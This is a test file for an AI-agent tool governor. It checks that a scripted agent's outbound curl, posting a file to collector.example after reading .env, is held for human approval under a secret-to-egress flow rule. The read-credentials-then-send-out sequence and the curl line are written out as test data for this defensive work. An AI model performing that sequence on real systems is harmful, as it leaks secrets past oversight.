import { generateText, stepCountIs, tool, type ModelMessage, type ToolApprovalResponse } from 'ai';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createGovernor, renderConfirmationPrompt, type TraceRecord } from '../../../src/index';
import { RISK_CATEGORIES } from '../../../src/categories/riskCategories';
import { governTools } from '../../../src/integrations/aiSdk/index';
import { makeWorkspace } from '../../support/workspace';
import { scriptedModel, toolResultsSeen, type ScriptedTurn } from './scriptedModel';

// A call the flow rules hold comes to the AI SDK host as every held call does: a tool-approval
// request whose decision (decisionFor) names the flow rule and the call that read the secret.

const INTENTS_YAML = "active_intents:\n  - id: INT-001\n    owned_scope: ['src/**']\n";
const EGRESS = { command: 'curl -d @src/report.json https://collector.example' };

/** Every category approved: only the flow rules hold the call out after the read of .env. */
async function heldEgress() {
  const root = makeWorkspace({ intentsYaml: INTENTS_YAML });
  const trace: TraceRecord[] = [];
  const governor = createGovernor({ workspaceRoot: root, trace: (record) => void trace.push(record) });
  governor.approveSession([...RISK_CATEGORIES]);
  const ran: unknown[] = [];
  const tools = {
    read_file: tool({
      inputSchema: z.object({ path: z.string() }),
      execute: async (input) => {
        ran.push(input);
        return 'KEY=1';
      },
    }),
    execute_command: tool({
      inputSchema: z.object({ command: z.string() }),
      execute: async (input) => {
        ran.push(input);
        return 'sent';
      },
    }),
  };
  const governed = governTools(governor, tools);
  governed.userPrompt('send the report');
  const turns: ScriptedTurn[] = [
    { calls: [{ id: 'c1', tool: 'select_active_intent', input: { intent_id: 'INT-001' } }] },
    { calls: [{ id: 'c2', tool: 'read_file', input: { path: '.env' } }] },
    { calls: [{ id: 'c3', tool: 'execute_command', input: EGRESS }] },
    { text: 'waiting' },
    { text: 'done' },
  ];
  const model = scriptedModel(turns);
  const messages: ModelMessage[] = [{ role: 'user', content: 'send the report' }];
  const run = () =>
    generateText({
      model,
      tools: governed.tools,
      prepareStep: governed.prepareStep,
      stopWhen: stepCountIs(5),
      messages,
    });
  const first = await run();
  messages.push(...first.response.messages);
  const answer = (approved: boolean) => {
    const request = first.content.find((part) => part.type === 'tool-approval-request');
    if (!request) throw new Error('no approval request');
    const response: ToolApprovalResponse = { type: 'tool-approval-response', approvalId: request.approvalId, approved };
    messages.push({ role: 'tool', content: [response] });
    return run();
  };
  return { governor, governed, model, first, answer, ran, trace };
}

const codesIn = (trace: readonly TraceRecord[]) => trace.map((record) => record.reasons[0]?.code);

describe('a flow hold in the AI SDK', () => {
  it('comes to the host as a tool-approval request whose decision names the flow rule', async () => {
    const { governed, first, ran } = await heldEgress();
    const requests = first.content.filter((part) => part.type === 'tool-approval-request');
    expect(requests.map((part) => part.toolCall.toolName)).toEqual(['execute_command']);
    const held = governed.decisionFor('c3');
    expect(held).toMatchObject({ verdict: 'ask', code: 'flow_secret_to_egress' });
    expect(held?.reason).toContain('this session read .env at call');
    expect(renderConfirmationPrompt(held!.approval!.prompt)).toContain('flow_secret_to_egress');
    expect(ran).toEqual([{ path: '.env' }]);
  });

  it('runs the call once when the host approves it (Continue), and the mark stays', async () => {
    const { governor, answer, ran, trace } = await heldEgress();
    await answer(true);
    expect(ran).toEqual([{ path: '.env' }, EGRESS]);
    expect(codesIn(trace).slice(-2)).toEqual(['flow_secret_to_egress', 'approved_once']);
    expect(governor.flowMarks.secret).toMatchObject({ tool: 'read_file', what: '.env' });
  });

  it('does not run the call when the host refuses it, and the governor stops waiting', async () => {
    const { governor, answer, ran, trace } = await heldEgress();
    await answer(false);
    expect(ran).toEqual([{ path: '.env' }]);
    expect(governor.pendingApproval).toBeUndefined();
    expect(codesIn(trace).slice(-2)).toEqual(['flow_secret_to_egress', 'approval_cancelled']);
  });

  it('runs the call once when its hold was ended meanwhile and deciding it again holds it for the same rule', async () => {
    const { governor, answer, ran, trace, model } = await heldEgress();
    // the hold ends before the approval reaches the SDK (answered elsewhere, such as the console)
    governor.resolveApproval(governor.heldCalls[0]!.id, 'cancel');
    await answer(true);
    expect(ran).toEqual([{ path: '.env' }, EGRESS]);
    expect(codesIn(trace).slice(-4)).toEqual([
      'flow_secret_to_egress',
      'approval_cancelled',
      'flow_secret_to_egress',
      'approved_once',
    ]);
    expect(toolResultsSeen(model.doGenerateCalls.at(-1)).get('c3')).toEqual({ type: 'text', value: 'sent' });
  });
});
